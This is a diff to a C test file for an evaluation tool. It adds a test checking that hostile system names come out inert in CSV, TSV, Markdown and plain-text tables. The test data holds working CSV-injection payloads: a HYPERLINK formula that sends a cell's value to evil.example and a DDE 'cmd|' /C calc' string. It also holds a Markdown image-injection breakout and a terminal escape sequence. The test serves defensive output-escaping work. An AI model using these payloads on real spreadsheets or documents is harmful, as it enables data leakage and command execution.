@@ -151,6 +151,75 @@ static void test_bootstrap_note(void) {
   ce_eval_free(ev);
 }
 
+/*
+ * Names that would act where a table is opened (OWASP "CSV Injection"; a Markdown code span
+ * closed early to let an image in; a terminal's escape sequence) are written inert, each
+ * format by its own rule; a name that is a number as written stays one.
+ */
+static const char *const hostile[] = {
+    "=HYPERLINK(\"http://evil.example/?\"&B2,\"x\")",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd",
+    "x` ![p](http://evil.example/md.png) `y",
+    "`a\tb`",
+    "\x1b[31mred",
+    "-0.5",
+};
+enum { HOSTILE = sizeof hostile / sizeof *hostile };
+
+static ce_eval *run_hostile(void) {
+  ce_eval *ev = ce_eval_create();
+  CHECK(ce_eval_add_input(ev, "gold", NULL, NULL) == CE_OK);
+  for (size_t s = 0; s < HOSTILE; s++)
+    CHECK(ce_eval_add_input(ev, hostile[s], NULL, NULL) == CE_OK);
+  ce_eval_feed(ev, 0, gold, sizeof gold - 1, NULL);
+  for (size_t s = 0; s < HOSTILE; s++)
+    ce_eval_feed(ev, s + 1, systems[1][1], strlen(systems[1][1]), NULL);
+  for (size_t i = 0; i <= HOSTILE; i++) ce_eval_close(ev, i, NULL);
+  CHECK(ce_eval_finish(ev, NULL) == CE_OK);
+  return ev;
+}
+
+static void test_hostile_names(void) {
+  ce_eval *ev = run_hostile();
+  CHECK_TEXT(table(ev, CE_TABLE_CSV, columns, 1, NULL, 0),
+             "system,token.m1\n"
+             "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&B2,\"\"x\"\")\",0.75\n"
+             "\"'@SUM(1+1)*cmd|' /C calc'!A0\",0.75\n"
+             "\"'+1+cmd\",0.75\n"
+             "x` ![p](http://evil.example/md.png) `y,0.75\n"
+             "\"`a\tb`\",0.75\n"
+             "?[31mred,0.75\n"
+             "-0.5,0.75\n");
+  CHECK_TEXT(table(ev, CE_TABLE_TSV, columns, 1, NULL, 0),
+             "system\ttoken.m1\n"
+             "'=HYPERLINK(\"http://evil.example/?\"&B2,\"x\")\t0.75\n"
+             "'@SUM(1+1)*cmd|' /C calc'!A0\t0.75\n"
+             "'+1+cmd\t0.75\n"
+             "x` ![p](http://evil.example/md.png) `y\t0.75\n"
+             "`a\\tb`\t0.75\n"
+             "?[31mred\t0.75\n"
+             "-0.5\t0.75\n");
+  /* Every name in a code span one backtick longer than its longest run, padded where it
+   * begins or ends with a backtick; '|' as GFM tables escape it. */
+  CHECK_TEXT(table(ev, CE_TABLE_MARKDOWN, columns, 1, NULL, 0),
+             "| System | Token M-1 |\n"
+             "| --- | ---: |\n"
+             "| `=HYPERLINK(\"http://evil.example/?\"&B2,\"x\")` | **0.7500** |\n"
+             "| `@SUM(1+1)*cmd\\|' /C calc'!A0` | **0.7500** |\n"
+             "| `+1+cmd` | **0.7500** |\n"
+             "| ``x` ![p](http://evil.example/md.png) `y`` | **0.7500** |\n"
+             "| `` `a?b` `` | **0.7500** |\n"
+             "| `?[31mred` | **0.7500** |\n"
+             "| `-0.5` | **0.7500** |\n");
+  char *text = table(ev, CE_TABLE_TEXT, columns, 1, NULL, 0);
+  CHECK_STR_CONTAINS(text, "\n`a?b`     ");
+  CHECK_STR_CONTAINS(text, "\n?[31mred  ");
+  CHECK(!strchr(text, '\x1b') && !strchr(text, '\t'));
+  ce_free(text);
+  ce_eval_free(ev);
+}
+
 static void test_usage(void) {
   ce_eval *ev = run(0, 0);
   char *text = NULL;
@@ -180,6 +249,7 @@ int main(void) {
   test_plain_formats();
   test_failed_row();
   test_bootstrap_note();
+  test_hostile_names();
   test_usage();
   test_labels();
   return check_report("tables");
